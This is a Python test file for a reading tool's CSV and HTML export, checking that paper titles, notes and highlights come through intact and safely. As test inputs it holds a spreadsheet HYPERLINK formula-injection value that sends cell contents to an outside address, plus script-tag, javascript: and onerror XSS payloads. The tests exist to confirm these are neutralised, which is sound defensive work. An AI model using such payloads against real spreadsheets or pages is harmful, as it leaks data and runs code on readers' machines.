"""CSV and the HTML page."""

import csv
import io
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reader.export.html import html_page, rendered
from reader.export.model import ENGLISH, KOREAN, ExportedPaper
from reader.export.table import COLUMNS, table
from reader.posts.model import PaperKey, Points, Section, SectionKind
from reader.posts.plain import parser
from tests.export.exported import HARD_TITLES, NOTE, exported, marked

ANY_TEXT = st.text(st.characters(codec="utf-8", exclude_characters="\0\r"), max_size=60)


class Reading(HTMLParser):
    """The text, tags and links of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.links: list[str] = []
        self.words = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]

    def handle_data(self, data: str) -> None:
        self.words += data


def page(*papers: ExportedPaper) -> str:
    return "".join(html_page(papers, ENGLISH, "en"))


FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def rows(*papers: ExportedPaper) -> list[dict[str, str]]:
    text = "".join(table(papers))
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_a_line_of_csv_has_all_of_a_paper() -> None:
    (row,) = rows(marked())
    assert tuple(row) == COLUMNS
    assert row["title"] == "Folding Long Texts"
    assert row["labels"] == "읽을 것; a, b"
    assert row["bookmarked"] == "2025-01-03T09:30:00+00:00"
    assert row["revisit"] == "2025-02-01"
    assert (row["goal"], row["motivation"], row["contribution"]) == ("목표", "", "기여")
    assert row["note"] == NOTE
    assert row["highlights"] == "토큰을 <두 번> 접는\n방법"


@given(ANY_TEXT, ANY_TEXT)
def test_any_text_comes_through_csv(title: str, note: str) -> None:
    (row,) = rows(exported(title or "x", note=note))
    for cell, text in ((row["title"], title or "x"), (row["note"], note)):
        assert cell in (text, f"'{text}")
        assert cell[:1] not in FORMULAS


@pytest.mark.parametrize("sign", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_take_for_a_formula_is_marked_as_text(sign: str) -> None:
    text = f'{sign}HYPERLINK("https://example.org/?"&A1)'
    (row,) = rows(exported(text, note=text, tags=(text,), labels=(text,), points=Points(goal=text)))
    for column in ("title", "note", "tags", "labels"):
        assert row[column] == f"'{text}", column
    assert row["goal"][0] not in FORMULAS


def test_other_cells_are_as_they_were() -> None:
    text = "a=b, 'c' -d"
    (row,) = rows(exported(text, note=f"'{text}"))
    assert (row["title"], row["note"]) == (text, f"'{text}")


def test_what_is_not_known_of_a_paper_is_an_empty_cell() -> None:
    (row,) = rows(ExportedPaper(PaperKey("title:steam"), ""))
    assert {column: cell for column, cell in row.items() if cell} == {"key": "title:steam", "title": "title:steam"}


def test_hard_titles_are_words_of_the_page() -> None:
    read = Reading(page(*(exported(title, f"2501.{n:05d}") for n, title in enumerate(HARD_TITLES))))
    for title in HARD_TITLES:
        assert read.words.count(title) == 2  # in the contents and above the paper
    assert "think" not in read.tags
    assert "parallel" not in read.tags


def test_a_page_has_notes_highlights_and_points_in_the_language_asked_for() -> None:
    read = Reading("".join(html_page([marked()], KOREAN, "ko")))
    for words in ("메모", "하이라이트", "다시 읽기 & 50%_x^2", "토큰을 <두 번> 접는", "Goal", "목표", "#llm", "a, b"):
        assert words in read.words
    assert read.tags.count("dd") == 2
    assert "nav" not in read.tags  # of one paper


@given(st.text(st.sampled_from("ab가 1.)-+=#>:~!\"'&<*_`[]|\n\\")))
def test_plain_lines_are_rendered_as_the_parser_would(markdown: str) -> None:
    assert rendered(markdown) == parser().render(markdown)


@pytest.mark.parametrize(("link", "leads"), [("http://a.org", True), ("https://a.org", True), ("ftp://a.org", False)])
def test_a_page_leads_to_addresses_of_the_web_alone(link: str, leads: bool) -> None:
    assert (link in Reading(page(exported("Elsewhere", None, link))).links) == leads


def test_a_page_needs_no_network_and_runs_nothing() -> None:
    evil = "<script>alert(1)</script> [x](javascript:alert(1)) <img src=x onerror=alert(1)>"
    paper = exported(evil, None, "javascript:alert(2)", note=evil, tags=("<b>",))
    read = Reading(page(paper._replace(sections=(Section(SectionKind.OTHER, evil, evil),))))
    assert not {"script", "img", "b", "link"} & set(read.tags)
    assert read.links == []
